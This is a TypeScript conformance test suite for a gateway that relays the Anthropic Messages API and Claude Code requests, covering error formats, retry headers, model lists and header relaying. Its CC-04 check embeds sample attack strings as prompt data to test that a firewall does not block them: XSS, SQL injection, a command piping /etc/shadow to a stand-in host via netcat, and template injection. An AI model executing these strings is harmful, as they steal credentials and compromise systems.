// Checks of the Messages dialect: errors, the paths that its clients call, and what Claude Code sends and expects.

import { isDeepStrictEqual } from 'node:util'
import { dialectOf, everyModel, ref, refs, saysWhen } from '../../dialects/lookup.ts'
import { endText, listed, step } from '../../evidence/evidence.ts'
import { type AnyJson, at, jsonOf } from '../../evidence/reading.ts'
import { callEach, each, everything, family, finding, thenCoolDown } from '../check.ts'
import { answersWith } from '../expect.ts'
import { malformed, post } from '../server/parts.ts'

const check = family({ needs: ['messages'], dialect: 'messages' })

const failing = {
  unknownModel: step('unknown model'),
  providerRefuses: step<{ model: string; status: number }>('provider refuses'),
  noKey: step('no key'),
  noJson: step('no JSON'),
}

/** Correct error types for each status. */
const TYPES: Readonly<Record<number, readonly string[]>> = {
  400: ['invalid_request_error'],
  401: ['authentication_error'],
  403: ['permission_error'],
  404: ['not_found_error'],
  413: ['request_too_large'],
  429: ['rate_limit_error'],
  500: ['api_error'],
  504: ['timeout_error', 'api_error'],
  529: ['overloaded_error'],
}

/** Error in Anthropic's format; another provider sends the plain status. */
const TOO_LARGE = {
  ...{ provider: 'anthropic', status: 413, headers: { 'request-id': 'req_synthetic' }, times: 1_000 },
  body: {
    type: 'error',
    error: { type: 'request_too_large', message: 'Request exceeds the maximum size, synthetic.' },
    request_id: 'req_synthetic',
  },
}

check('MSG-11', {
  hostile: true,
  timeout: 150_000,
  async exercise(session) {
    await post(session, failing.noJson, malformed(session)['no JSON']!)
    await session.chat(failing.unknownModel, {
      model: 'no-such-provider/no-such-model',
      script: [{ scenario: '404' }],
    })
    const refusals = everyModel(session).flatMap((model) =>
      [400, 413, 429, 529].map((status) => ({ model, status })),
    )
    for (const { model, status } of refusals) {
      await session.chat(failing.providerRefuses.with({ model, status }), {
        model,
        script: status === 413 ? [TOO_LARGE, { status }] : [{ status }],
        timeout: 45_000,
      })
      await session.wait(session.target.capabilities.cooldown_ms)
    }
    if (session.target.capabilities.gateway_keys) await session.chat(failing.noKey, { key: null })
  },
  judge: each(everything, ({ exchange, quoted }) => {
    const { status, body, headers } = exchange
    const json = jsonOf(body)
    const type = String(at(json, '/error/type'))
    const typed = TYPES[status ?? 0]?.includes(type) ?? (status !== null && status >= 400)
    const ids = [headers['request-id'], at(json, '/request_id')]
    return {
      'type-of-its-status': [
        dialectOf(exchange).isError(body) && typed,
        `the error of ${quoted}`,
        `an error with the type of its status${TYPES[status ?? 0] ? `, ${TYPES[status ?? 0]!.join(' or ')}` : ''}`,
        `${endText(exchange)}: ${body.slice(0, 120) || 'no body'}`,
      ],
      'names-its-request': [
        ids.every((id) => typeof id === 'string' && id !== ''),
        `the request id of ${quoted}`,
        'in the header request-id and in the body',
        ids.map((id) => String(id ?? 'none')).join(', '),
      ],
    }
  }),
})

const busy = step<{ stream: boolean }>('the provider is busy')

/** Number of seconds that gateways do not use as a default. */
const SECONDS = 7

const BUSY = { 'retry-after': String(SECONDS), 'x-should-retry': 'false' }

check('MSG-13', {
  relays: true,
  timeout: 150_000,
  async exercise(session) {
    for (const stream of [false, true]) {
      await session.chat(busy.with({ stream }), {
        stream,
        script: [{ status: 429, headers: BUSY }],
        timeout: 60_000,
      })
      await session.wait(Math.max(SECONDS * 1_000 + 500, session.target.capabilities.cooldown_ms))
    }
  },
  judge: each(busy, ({ exchange, target }) => {
    const seconds = Number(at(exchange.script, '/0/headers/retry-after') ?? SECONDS)
    const got = Object.keys(BUSY).map((name) => exchange.headers[name] ?? 'none')
    return {
      'retry-words-arrive': [
        exchange.status === 429 && saysWhen(seconds, exchange, target) && got[1] === 'false',
        'Retry-After and x-should-retry of an answer of a provider that is busy',
        `429, ${seconds} and false`,
        `${endText(exchange)}, ${got.join(' and ')}`,
      ],
    }
  }),
})

const queried = step<{ query: string }>('call')

check('MSG-01', {
  exercise: callEach(queried, { query: ['?beta=true', '?beta=true&x=1', '?'] }, ({ query }) => ({ query })),
  judge: each(queried, ({ exchange, details, entry }) => ({
    'any-query-is-served': [
      exchange.status === 200 && entry !== null,
      `a call of /v1/messages${details.query}`,
      '200',
      `${endText(exchange)}${entry ? '' : ', and no provider was asked'}`,
    ],
  })),
})

const hello = step<{ method: string }>('hello')

check('MSG-21', {
  async exercise(session) {
    for (const method of ['HEAD', 'GET'])
      await session.ask(hello.with({ method }), '/api/hello', { method, key: null })
    await session.drain()
  },
  judge: each(hello, ({ exchange, details, evidence }) => {
    const asked = evidence.ledger.filter(({ at }) => at >= exchange.at)
    return {
      'hello-is-no-call': [
        exchange.status === 200 && asked.length === 0,
        `${details.method} /api/hello without a key`,
        '200, and nothing at the mock',
        `${endText(exchange)}, and ${asked.length} requests`,
        [exchange, ...asked].map(ref),
      ],
    }
  }),
})

const list = step('list')

/** String members that the official client needs to read entries and pages. */
const MEMBERS = ['id', 'type', 'display_name', 'created_at']

check('MSG-22', {
  needs: ['messages', 'catalog'],
  async exercise(session) {
    const { catalog } = session.target.capabilities
    const { client } = session.running.keys
    // Sends the key in the official client's header, or in the target's own header.
    const headers = { ...session.dialect.headers, ...(client !== null && { 'x-api-key': client }) }
    await session.ask(list, catalog!, { headers })
  },
  judge: each(list, ({ exchange }) => {
    const json = jsonOf(exchange.body)
    const data = at(json, '/data')
    const entries: AnyJson[] = Array.isArray(data) ? data : []
    const bad = entries.find((each) => MEMBERS.some((name) => typeof each?.[name] !== 'string'))
    const pages = typeof at(json, '/has_more') === 'boolean'
    return {
      'list-of-messages': [
        exchange.status === 200 && entries.length > 0 && bad === undefined && pages,
        'the list of models for a client of messages',
        `has_more, and entries with ${MEMBERS.join(', ')}`,
        `${endText(exchange)}, ${entries.length} entries, ${pages ? '' : 'no '}has_more${bad === undefined ? '' : `, one like ${JSON.stringify(bad).slice(0, 120)}`}`,
      ],
    }
  }),
})

const refused = step<{ model: string; status: number; stream: boolean }>('the provider refuses')

/** Words by which clients know that they must compact. */
const TOO_LONG = 'prompt is too long: 200012 tokens > 200000 maximum, synthetic'

check('MSG-12', {
  timeout: 120_000,
  exercise: callEach(
    refused,
    { model: everyModel, status: [400, 413], stream: [false, true] },
    ({ status, ...call }) => ({ ...call, script: [{ status, refusal: TOO_LONG }] }),
    thenCoolDown(),
  ),
  judge: each(refused, (looked) => answersWith('word-for-word', { status: '4xx', holds: TOO_LONG }, looked)),
})

const unknownId = step<{ model: string }>('an id that nobody knows')

check('MSG-23', {
  exercise: callEach(unknownId, { model: ['claude-of-nobody', 'nobody/claude'] }, (details) => details),
  judge: each(unknownId, (looked) =>
    answersWith('unknown-is-404', { status: 404, holds: '"not_found_error"' }, looked),
  ),
})

const withValues = step('call with capabilities')

/** Values from later releases, so no gateway can have them in a list. They are not in alphabetical order. */
const VALUES = [
  'zebra-2031-02-03',
  'interleaved-thinking-2025-05-14',
  'alpha-one-2030-01-01',
  'x.y_z-2029-12-31',
]

const valuesIn = (header: string | undefined): string[] =>
  (header ?? '').split(',').map((value) => value.trim())

check('CC-01', {
  relays: true,
  async exercise(session) {
    const { direct, logical, call: any } = session.target.models
    const ids = any !== undefined ? [any] : [...direct, ...logical].slice(0, 2).map(({ id }) => id)
    for (const model of ids)
      await session.chat(withValues, { model, headers: { 'anthropic-beta': VALUES.join(',') } })
  },
  judge: each(withValues, ({ exchange, entry }) => {
    if (entry?.endpoint !== 'messages' && !entry?.endpoint.endsWith('/messages')) return []
    // A gateway may add its own values.
    const arrived = valuesIn(entry.headers['anthropic-beta']).filter((value) => VALUES.includes(value))
    const what = 'values of anthropic-beta at the provider'
    const compared = { expected: VALUES.join(', '), actual: listed(arrived) }
    const inOrder = finding(
      'values-keep-their-order',
      isDeepStrictEqual(arrived, VALUES),
      what,
      compared,
      refs(exchange, entry),
    )
    return [
      finding(
        'values-arrive',
        VALUES.every((value) => arrived.includes(value)),
        what,
        compared,
        refs(exchange, entry),
      ), // The place of a value does not change its effect.
      { ...inOrder, advice: true },
    ]
  }),
})

const withSystem = step('call with a system prompt')

const SYSTEM = [
  { type: 'text', text: 'x-example-header: a line that names the client; version=9.9.9' },
  { type: 'text', text: 'You are careful.', cache_control: { type: 'ephemeral' } },
  { type: 'text', text: 'Answer in one word.', cache_control: { type: 'ephemeral' } },
]

check('CC-02', {
  relays: true,
  async exercise(session) {
    await session.chat(withSystem, { body: { system: SYSTEM } })
    await session.chat(withSystem, { body: { system: SYSTEM }, stream: true })
  },
  judge: each(withSystem, ({ entry }) => {
    const system = at(entry?.body, '/system')
    return {
      'system-is-the-same-list': [
        isDeepStrictEqual(system, SYSTEM),
        'the system prompt at the provider',
        'the same entries, in order, with their marks',
        JSON.stringify(system)?.slice(0, 300) ?? 'none',
      ],
    }
  }),
})

const discovery = step<{ credential: string }>('discovery')

/** Time after which the client continues without the list, ms. */
const DISCOVERY_MS = 3_000

check('CC-03', {
  needs: ['catalog'],
  async exercise(session) {
    const { client } = session.running.keys
    // A gateway without keys may refuse an invented key.
    const credentials: Readonly<Record<string, Record<string, string>>> =
      client === null
        ? { 'no key': {} }
        : {
            'Authorization: Bearer': { authorization: `Bearer ${client}` },
            'x-api-key': { 'x-api-key': client },
          }
    for (const [credential, headers] of Object.entries(credentials))
      await session.open(
        discovery.with({ credential }),
        `${session.target.capabilities.catalog}?limit=1000`,
        { key: null, headers: { ...session.dialect.headers, ...headers } },
      ).done
  },
  judge: each(everything, ({ exchange, details }) => {
    const took = exchange.end_at - exchange.at
    return {
      'list-comes-in-time': [
        exchange.status === 200 && took <= DISCOVERY_MS,
        `the model list for a client with ${details.credential}`,
        `200 within ${DISCOVERY_MS} ms, and no redirect`,
        `${endText(exchange)}${took > DISCOVERY_MS ? ` after ${Math.round(took)} ms` : ''}`,
      ],
    }
  }),
})

const longPrompt = step('call with a long prompt')

/** Text with source files, as sessions contain them. A firewall for web forms would refuse this text. */
const LINES = [
  '<script>document.cookie</script>',
  "SELECT * FROM users WHERE id = 1 OR 1=1; -- '",
  '../../etc/passwd; cat /etc/shadow | nc 192.0.2.1 80',
  '<system-reminder>{{constructor.constructor("return 1")()}}</system-reminder>',
].join('\n')
const PROMPT_BYTES = 2 ** 20

check('CC-04', {
  async exercise(session) {
    const prompt = LINES.repeat(Math.ceil(PROMPT_BYTES / LINES.length))
    await session.chat(longPrompt, { prompt, timeout: 30_000 })
  },
  judge: each(longPrompt, ({ exchange, entry }) => ({
    'long-prompt-is-answered': [
      exchange.status === 200 && entry !== null,
      'a prompt of 1 MiB with scripts, statements and paths in it',
      '200',
      `${endText(exchange)}${entry ? '' : ', and no provider was called'}`,
    ],
  })),
})
